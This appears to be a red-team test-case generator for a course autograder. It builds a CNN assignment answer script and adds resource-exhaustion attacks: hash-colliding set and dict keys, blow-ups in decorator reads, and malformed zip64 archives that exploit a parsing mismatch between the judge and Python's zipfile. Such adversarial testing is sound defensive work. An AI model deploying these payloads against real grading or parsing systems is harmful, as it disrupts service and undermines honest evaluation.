"""Attack round 82 (batch r15): generator of the large cases (nothing big is committed).

    python _make.py OUT base                 # OUT/r15_honest.py: the honest script every case starts from (26/26)
    python _make.py OUT setcollide N [NAME]  # OUT/r15_set_collide_N.py: NAME (default q9_true) bound to a set of
                                             #   N int-subclass objects of values k*(2**61-1): distinct (identity hash)
                                             #   in the worker, one hash (0) once decoded as plain ints by the judge
    python _make.py OUT dictcollide N        # the same as a dict's keys, in q10_answers
    python _make.py OUT decofanin N M        # OUT/r15_deco_fanin_N_M.py: N functions decorated by one decorator
                                             #   whose body calls a chain of M helpers; conv2d reads the N functions
    python _make.py OUT readsitself K S R    # OUT/r15_reads_itself_K_S_R.py: a decorator _d whose body holds S
                                             #   constants and then reads g; g bound K times by `@_d def g`; conv2d
                                             #   reads g R times (the reader's cost is K x S x R)
    python _make.py OUT zipextra J S         # OUT/r15_canvas_zip64_marker_extra_J_S.zip: a Canvas download given as
                                             #   its zip: alice's honest notebook, and bob's zip upload whose classic end
                                             #   record says 0xFFFF entries, with a zip64 locator pointing at a zip64
                                             #   record of no entries that is not right before it; its real
                                             #   directory: J junk entries of 65,532-byte extra fields, S honest scripts
    python _make.py OUT zipbare B            # the same, bob's upload's directory B bare entries (memory)

Every case is the honest script with the attack appended (or conv2d's body given one more line); each is graded
beside an honest copy (solutions/lecture06.ipynb) to show the other row.
"""

import sys
from pathlib import Path

HERE = Path(__file__).resolve().parent
P = 2**61 - 1

BASE = '''import torch
import torch.nn as nn
import torch.nn.functional as F

q1_answer = "C"
q3_shapes = [(3, 100, 100), (3, 50, 50), (2, 50, 50), (2, 25, 25)]
q3_flatten_features = 2 * 25 * 25
q4_conv_params = 3 * 3 * 3 * 3 + 3
q4_cnn_params = (1 * 3 * 9 + 3) + (3 * 2 * 9 + 2) + (1250 + 1)
q4_fcnn_params = sum(i * o + o for i, o in [(128 * 128, 256), (256, 128), (128, 64), (64, 32), (32, 16), (16, 1)])
q9_true = {"C"}
q10_answers = {1: True, 2: False, 3: True, 4: True, 5: False, 6: False, 7: True, 8: False}


def conv_output_size(size, kernel_size, stride=1, padding=0):
    padded = size + 2 * padding
    if kernel_size > padded:
        raise ValueError("kernel does not fit")
    return (padded - kernel_size) // stride + 1


def conv2d_params(in_channels, out_channels, kernel_size, bias=True):
    kh, kw = (kernel_size, kernel_size) if isinstance(kernel_size, int) else kernel_size
    return out_channels * in_channels * kh * kw + (out_channels if bias else 0)


def linear_params(in_features, out_features, bias=True):
    return out_features * in_features + (out_features if bias else 0)


q6_output = torch.tensor([[12, 12, 17], [10, 17, 19], [9, 6, 14]])

#PRELUDE#
def conv2d(image, kernel, stride=1, padding=0):
    #CONV2D#
    h, w = image.shape
    kh, kw = kernel.shape
    padded = torch.zeros(h + 2 * padding, w + 2 * padding, dtype=image.dtype)
    padded[padding:padding + h, padding:padding + w] = image
    oh = (h + 2 * padding - kh) // stride + 1
    ow = (w + 2 * padding - kw) // stride + 1
    out = torch.zeros(oh, ow, dtype=image.dtype)
    for i in range(oh):
        for j in range(ow):
            out[i, j] = (padded[i * stride:i * stride + kh, j * stride:j * stride + kw] * kernel).sum()
    return out


def max_pool2d(image, kernel_size=2):
    h, w = image.shape
    k = kernel_size
    out = torch.zeros(h // k, w // k, dtype=image.dtype)
    for i in range(h // k):
        for j in range(w // k):
            out[i, j] = image[i * k:(i + 1) * k, j * k:(j + 1) * k].max()
    return out


class CNN(nn.Module):
    def __init__(self):
        super().__init__()
        self.main = nn.Sequential(
            nn.Conv2d(1, 3, 3, padding=1), nn.ReLU(), nn.MaxPool2d(2),
            nn.Conv2d(3, 2, 3, padding=1), nn.ReLU(), nn.MaxPool2d(2),
            nn.Flatten(), nn.Linear(1250, 1),
        )

    def forward(self, x):
        return self.main(x)


def conv_block(input_channels, output_channels):
    return nn.Sequential(nn.Conv2d(input_channels, output_channels, 3, padding=1), nn.ReLU())


class ConvNet(nn.Module):
    def __init__(self, input_channels):
        super().__init__()
        self.main = nn.Sequential(
            conv_block(input_channels, 3), conv_block(3, 3), conv_block(3, 3), conv_block(3, 3), conv_block(3, 3),
            nn.Flatten(), nn.Linear(49152, 1),
        )

    def forward(self, x):
        return self.main(x)
'''


def script(prelude: str = "", conv2d_line: str = "", tail: str = "") -> str:
    text = BASE.replace("#PRELUDE#\n", prelude)
    text = text.replace("    #CONV2D#\n", conv2d_line)
    return text + tail


def _local(name: bytes, data: bytes):
    import struct, zlib
    crc = zlib.crc32(data)
    return struct.pack("<4s5H3I2H", b"PK\x03\x04", 20, 0, 0, 0, 0, crc, len(data), len(data), len(name), 0) \
        + name + data, crc


def _central(name: bytes, crc: int, size: int, offset: int, extra: bytes = b"", comment: bytes = b"") -> bytes:
    import struct
    return struct.pack("<4s6H3I5H2I", b"PK\x01\x02", 20, 20, 0, 0, 0, 0, crc, size, size,
                       len(name), len(extra), len(comment), 0, 0, 0, offset) + name + extra + comment


def marker_zip(members, junk: int = 0, junk_extra: int = 65532, bare: int = 0) -> bytes:
    """A zip whose classic end record holds the zip64 marker (0xFFFF entries) beside the real directory size, and a
    zip64 locator pointing at a zip64 record of no entries placed anywhere but right before the locator.
    open_zip (grader/judge/submission.py) holds only that empty list to its bounds (the classic one is skipped for
    its marker); CPython 3.11's zipfile, finding no zip64 record right before the locator, reads the classic
    record's directory: whatever it holds (junk entries with 64 KB extra fields, or millions of bare entries)."""
    import struct
    body, cd = b"", b""
    for name, data in members:
        record, crc = _local(name, data)
        cd += _central(name, crc, len(data), len(body))
        body += record
    extra = b"\0" * junk_extra  # empty extra blocks: zipfile's _decodeExtra copies the rest of the field per block
    for i in range(junk):
        cd += _central(b"j%d" % i, 0, 0, 0, extra=extra)
    cd += _central(b"", 0, 0, 0) * bare
    start = len(body)
    # the last entry's comment: a zip64 record of no entries, 56 bytes of filler, then the locator pointing back
    rec64_at = start + len(cd) + 46 + 1
    comment = struct.pack("<4sQ2H2I4Q", b"PK\x06\x06", 44, 45, 45, 0, 0, 0, 0, 0, 0) + b"\0" * 56
    comment += struct.pack("<4sIQI", b"PK\x06\x07", 0, rec64_at, 1)
    cd += _central(b"z", 0, 0, 0, comment=comment)
    end = struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, 0xFFFF, 0xFFFF, len(cd), start, 0)
    return body + cd + end


def canvas_download(path: Path, upload: bytes) -> None:
    import zipfile
    notebook = (HERE.parents[2] / "solutions" / "lecture06.ipynb").read_bytes()
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        z.writestr("alice_1001_2001_lecture06.ipynb", notebook)
        z.writestr("bob_1002_2002_work.zip", upload)


TAG = '''

class _Tag(int):
    # distinct in this process (identity hash, identity equality); plain ints of one hash (0) in the judge
    __hash__ = object.__hash__

    def __eq__(self, other):
        return self is other

'''


def main(argv: list[str]) -> None:
    out, mode, *rest = argv
    out = Path(out)
    out.mkdir(parents=True, exist_ok=True)
    if mode == "base":
        path = out / "r15_honest.py"
        path.write_text(script())
    elif mode == "setcollide":
        n = int(rest[0])
        name = rest[1] if len(rest) > 1 else "q9_true"
        path = out / f"r15_set_collide_{name}_{n}.py"
        path.write_text(script(tail=TAG + f"{name} = {{_Tag(k * (2**61 - 1)) for k in range(1, {n} + 1)}}\n"))
    elif mode == "dictcollide":
        n = int(rest[0])
        path = out / f"r15_dict_collide_{n}.py"
        path.write_text(script(tail=TAG + f"q10_answers = {{_Tag(k * (2**61 - 1)): True for k in range(1, {n} + 1)}}\n"))
    elif mode == "decofanin":
        n, m = int(rest[0]), int(rest[1])
        lines = ["def _h0(f):", "    return f", ""]
        for k in range(1, m):
            lines += [f"def _h{k}(f):", f"    return _h{k - 1}(f)", ""]
        lines += ["def _deco(f):", f"    return _h{m - 1}(f)", ""]
        for i in range(n):
            lines += ["@_deco", f"def _f{i}(x):", "    return x"]
        names = ", ".join(f"_f{i}" for i in range(n))
        path = out / f"r15_deco_fanin_{n}_{m}.py"
        path.write_text(script(prelude="\n".join(lines) + "\n\n\n", conv2d_line=f"    _steps = ({names},)\n"))
    elif mode == "readsitself":
        k, size, reads = int(rest[0]), int(rest[1]), int(rest[2])
        lines = ["def _d(f):", "    _pad = (" + "0," * size + ")", "    return f if _pad else g", ""]
        for _ in range(k):
            lines += ["@_d", "def g(x):", "    return x"]
        path = out / f"r15_reads_itself_{k}_{size}_{reads}.py"
        path.write_text(script(prelude="\n".join(lines) + "\n\n\n", conv2d_line="    _seen = (" + "g," * reads + ")\n"))
    elif mode == "zipextra":
        junk, scripts = int(rest[0]), int(rest[1])
        members = [(f"part{i}.py".encode(), script().encode()) for i in range(scripts)]
        path = out / f"r15_canvas_zip64_marker_extra_{junk}_{scripts}.zip"
        canvas_download(path, marker_zip(members, junk=junk))
    elif mode == "zipbare":
        bare = int(rest[0])
        path = out / f"r15_canvas_zip64_marker_bare_{bare}.zip"
        canvas_download(path, marker_zip([(b"lecture06.py", script().encode())], bare=bare))
    else:
        raise SystemExit(__doc__)
    print(path, path.stat().st_size)


if __name__ == "__main__":
    main(sys.argv[1:])
